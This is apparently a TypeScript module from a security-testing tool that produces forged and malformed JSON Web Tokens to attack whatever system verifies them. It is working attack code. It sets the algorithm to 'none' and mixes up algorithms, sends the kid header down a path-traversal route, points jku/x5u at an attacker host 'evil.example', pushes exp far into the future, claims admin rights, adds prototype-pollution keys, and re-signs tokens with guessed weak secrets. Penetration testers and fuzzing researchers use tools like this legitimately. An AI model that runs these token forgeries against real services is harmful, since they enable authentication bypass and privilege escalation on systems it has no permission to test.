/** Attacks on JSON Web Tokens: header, claims and segments. */
import type { Attack, Opened, Place } from '../engine/model.ts';
import { type Change, listed } from './request-attack.ts';
import { headerOf, tokenBy, tokenIn } from './resign.ts';

type Json = Readonly<Record<string, unknown>>;

const segment = (value: unknown): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

const HEADERS: readonly ((header: Json) => Json | string)[] = [
  ...[
    'none',
    'None',
    'NONE',
    'HS256',
    'HS384',
    'HS512',
    'RS256',
    'ES256',
    'PS256',
    'EdDSA',
    'hs256',
    '',
    null,
    0,
    ['HS256'],
  ].map((alg) => (header: Json) => ({ ...header, alg })),
  ({ alg: _, ...header }) => header,
  (header) => ({ ...header, kid: '../../dev/null' }),
  (header) => ({ ...header, kid: '__proto__' }),
  (header) => ({ ...header, kid: 7 }),
  (header) => ({ ...header, jku: 'https://evil.example/keys' }),
  (header) => ({ ...header, x5u: 'https://evil.example/cert' }),
  (header) => ({ ...header, jwk: { kty: 'oct', k: '' } }),
  (header) => ({ ...header, crit: ['exp'], exp: 1 }),
  (header) => ({ ...header, crit: [] }),
  (header) => ({ ...header, b64: false, crit: ['b64'] }),
  (header) => ({ ...header, zip: 'DEF' }),
  (header) => ({ ...header, typ: 'x' }),
  (header) => ({ ...header, cty: 'JWT' }),
  (header) => `{"alg":"none",${JSON.stringify(header).slice(1)}`,
  (header) => `${JSON.stringify(header).slice(0, -1)},"alg":"none"}`,
  (header) => ` ${JSON.stringify(header)}`,
  (header) => `${JSON.stringify(header)}\0`,
  (header) => `\u{feff}${JSON.stringify(header)}`,
  () => '{',
  () => '[]',
  () => 'null',
  () => '',
];

const CLAIMS: readonly ((claims: Json) => Json | string)[] = [
  (claims) => ({ ...claims, exp: 253_402_300_799 }),
  (claims) => ({ ...claims, exp: '253402300799' }),
  (claims) => ({ ...claims, exp: 1e306 }),
  (claims) => ({ ...claims, exp: null }),
  ({ exp: _, ...claims }) => claims,
  (claims) => ({ ...claims, nbf: 0, iat: 0 }),
  (claims) => ({ ...claims, sub: 'admin', admin: true }),
  (claims) => ({ ...claims, aud: '*', iss: '*' }),
  (claims) => `${JSON.stringify(claims).slice(0, -1)},"exp":253402300799}`,
  (claims) => `{"__proto__":{"exp":1},${JSON.stringify(claims).slice(1)}`,
  (claims) => ` ${JSON.stringify(claims)}`,
  () => '{}',
  () => '[]',
  () => 'null',
  () => '',
  () => '\u0080',
];

function jsonOf(part: string): Json {
  try {
    return JSON.parse(Buffer.from(part, 'base64url').toString());
  } catch {
    return {};
  }
}

const ENDS: readonly ((input: string, signature: string) => string)[] = [
  (input, signature) => `${input}.${signature}`,
  (input) => `${input}.`,
  (input) => input,
  (input, signature) => `${input}.${signature}.`,
  (input, signature) => `${input}.${signature}.${signature}`,
  (input, signature) => `${input}.${signature}=`,
  (input, signature) => `${input}..${signature}`,
];

function changed(text: string): readonly string[] {
  const token = tokenIn(text);
  if (!token) return [];
  const { before, segments } = token;
  const [header = '', payload = '', signature = ''] = segments;
  const inputs = [
    ...HEADERS.map((change) => `${segment(change(headerOf(segments)))}.${payload}`),
    ...CLAIMS.map((change) => `${header}.${segment(change(jsonOf(payload)))}`),
    `${payload}.${header}`,
    `${header}.${header}`,
    `${header}=.${payload}=`,
  ];
  const forged = ['', '\0', 'secret', 'null', 'undefined'].flatMap((key) =>
    ['HS256', 'HS384', 'HS512'].map((algorithm) => tokenBy(segments, algorithm, key)),
  );
  return [
    ...inputs.flatMap((input) => ENDS.map((end) => before + end(input, signature))),
    ...ENDS.map((end) => before + end(`${header}.${payload}`, signature)),
    ...forged.map((each) => before + each),
  ];
}

export const TOKEN_ATTACKS: readonly Attack[] = [
  listed({
    id: 'token',
    summary:
      'headers (alg, kid, crit, jku, b64 …), claims and segments of a token changed, under the old signature, none, or one by a known key',
    places: ['proof'],
    elsewhere: 'it is no proof',
    ways(subject: Opened) {
      const ways = (subject.places.get('proof') ?? []).flatMap((place: Place) =>
        changed(place.text).map(
          (text): Change =>
            (request) =>
              place.put(request, text),
        ),
      );
      return ways.length > 0 ? ways : 'its proof is no token';
    },
  }),
];
